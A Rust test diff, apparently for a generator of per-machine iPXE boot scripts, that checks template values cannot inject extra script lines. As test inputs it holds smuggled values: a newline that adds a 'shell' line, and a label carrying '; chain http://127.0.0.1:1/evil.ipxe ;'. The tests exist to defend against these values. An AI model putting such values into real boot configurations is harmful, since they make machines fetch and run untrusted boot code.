@@ -31,18 +31,19 @@ fn with_script(label: &str, var: &str) -> Site {
 }
 
 #[test]
-fn a_label_cannot_add_a_line_to_a_role_script() {
-    let s = with_script(r#""r1\nshell""#, r#""fine""#);
+fn a_var_cannot_add_a_line_to_a_role_script() {
+    // (A label cannot even hold a newline: labels refuse control characters.)
+    let s = with_script(r#""r1""#, r#""fine\nshell""#);
     let r = s.build();
     assert_eq!(r.code, 1, "{}", r.stderr);
     assert!(!s.path("public").exists(), "a failed build writes nothing");
     let errors = r.errors();
     assert!(
-        errors.contains("--> templates/ipxe/custom.j2:2:"),
+        errors.contains("--> templates/ipxe/custom.j2:3:"),
         "the template's place: {errors}"
     );
     assert!(
-        errors.contains("machines/rack1.toml:3:"),
+        errors.contains("machines/rack1.toml:15:"),
         "the value's place: {errors}"
     );
     insta::assert_snapshot!(errors);
@@ -120,4 +121,25 @@ fn per_machine_files_keep_any_text() {
     );
     let r = s.build();
     assert_eq!(r.code, 0, "{}", r.stderr);
+}
+
+/// Turning escaping off, or writing the value from an included template
+/// with another name, does not switch the check off.
+#[test]
+fn autoescape_false_and_includes_are_checked_too() {
+    for script in [
+        "#!ipxe\n{% autoescape false %}echo {{ machine.labels.rack }}{% endautoescape %}\nexit\n",
+        "#!ipxe\n{% include \"ipxe/echo.j2\" %}\nexit\n",
+    ] {
+        let s = with_script(
+            r#""r1 ; chain http://127.0.0.1:1/evil.ipxe ;""#,
+            r#""fine""#,
+        );
+        s.write("templates/ipxe/custom.j2", script);
+        s.write("templates/ipxe/echo.j2", "echo {{ machine.labels.rack }}");
+        let r = s.build();
+        assert_eq!(r.code, 1, "{script}: {}", r.stderr);
+        assert!(r.stderr.contains("it is `;`"), "{script}: {}", r.stderr);
+        assert!(!s.path("public").exists());
+    }
 }
